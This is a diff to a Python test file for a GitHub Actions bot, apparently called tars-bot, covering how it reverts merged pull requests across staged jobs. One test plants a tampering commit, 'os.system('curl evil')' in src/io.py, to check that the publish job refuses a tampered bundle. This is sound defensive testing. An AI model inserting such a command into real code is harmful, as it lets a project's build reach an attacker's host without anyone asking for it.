@@ -5,6 +5,7 @@ Each job works in a fresh clone of `origin`, as Actions' jobs do."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 from tars_bot.system import ExecutionSystem
@@ -202,18 +203,68 @@ def test_the_staged_workflow_watches_in_its_publish_job(setup, fake_github, tmp_
     assert len(watch_comments(repo, pull)) == 1
 
 
-def test_the_staged_workflow_reverts_a_merged_pull_request_in_its_publish_job(
+def test_the_staged_workflow_reverts_in_its_execute_job_and_publishes_what_it_checked(
     setup,  # noqa: F811
     fake_github,
     tmp_path,
 ):
     _, origin, repo = setup
     pull = executed(fake_github, tmp_path, origin, repo)
+    merged = merge_on_github(tmp_path, repo, pull, "merge")
+    payload = comment_payload(repo, pull.number, "/tars-bot rollback")
+    assert stage(fake_github, tmp_path, job_checkout(origin, "a"), "authorize", payload) == 0
+    assert (tmp_path / "output-authorize").read_text() == "act=true\nexecute=true\n"
+    written = len(fake_github.requests)
+    runner = job_checkout(origin, "x")
+    assert stage(fake_github, tmp_path, runner, "execute", payload) == 0
+    assert {r.method for r in fake_github.requests[written:]} == {"GET"}  # it wrote nothing
+    assert git(origin, "for-each-ref", "refs/heads/tars-bot/revert-*") == ""
+    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", payload) == 0
+
+    [revert] = [p for p in repo.pulls() if p.number != pull.number]
+    assert revert.title == "Revert tars-bot: UTF-8 IO"
+    assert git(origin, "rev-parse", revert.head_ref) == git(runner, "rev-parse", revert.head_ref)
+    assert git(origin, "rev-parse", "main") == merged
+    assert "↩️ Reverting execution" in repo.comments_on(pull.number)[-1].body
+    original = execution_of(origin, tmp_path, "look").history()[-1]
+    assert original.state == "reverted"
+
+
+def test_a_revert_bundle_that_is_not_the_revert_is_refused(setup, fake_github, tmp_path):  # noqa: F811
+    _, origin, repo = setup
+    pull = executed(fake_github, tmp_path, origin, repo)
     merge_on_github(tmp_path, repo, pull, "merge")
     payload = comment_payload(repo, pull.number, "/tars-bot rollback")
     assert stage(fake_github, tmp_path, job_checkout(origin, "a"), "authorize", payload) == 0
-    assert (tmp_path / "output-authorize").read_text() == "act=true\nexecute=false\n"
-    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", payload) == 0
-    [revert] = [p for p in repo.pulls() if p.number != pull.number]
-    assert revert.title == "Revert tars-bot: UTF-8 IO"
-    assert "↩️ Reverting execution" in repo.comments_on(pull.number)[-1].body
+    runner = job_checkout(origin, "x")
+    assert stage(fake_github, tmp_path, runner, "execute", payload) == 0
+    # the execute job ran what the revert's checks run: it could have made anything. Here it
+    # slipped in a commit of its own on the revert branch and bundled that.
+    [branch] = git(
+        runner, "for-each-ref", "--format=%(refname:short)", "refs/heads/tars-bot/revert-*"
+    ).split()
+    git(runner, "checkout", "-q", branch)
+    commit_files(runner, {"src/io.py": "import os\nos.system('curl evil')\n"}, "sneaky")
+    git(runner, "checkout", "-q", "main")
+    handoff = tmp_path / "handoff"
+    execution_id = json.loads(
+        git(runner, "show", f"refs/tars-bot/executions/{_only_revert(runner)}:execution.json")
+    )["id"]
+    ExecutionSystem(runner).hand_off(execution_id, handoff / "execution.bundle")
+    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", payload) == 1
+    assert "was refused, so nothing was pushed" in repo.comments_on(pull.number)[-1].body
+    assert git(origin, "for-each-ref", "refs/heads/tars-bot/revert-*") == ""
+    assert len(repo.pulls()) == 1
+
+
+def _only_revert(checkout: Path) -> str:
+    refs = git(
+        checkout, "for-each-ref", "--format=%(refname:lstrip=3)", "refs/tars-bot/executions/"
+    )
+    return next(
+        r
+        for r in refs.split()
+        if json.loads(git(checkout, "show", f"refs/tars-bot/executions/{r}:execution.json")).get(
+            "reverts"
+        )
+    )
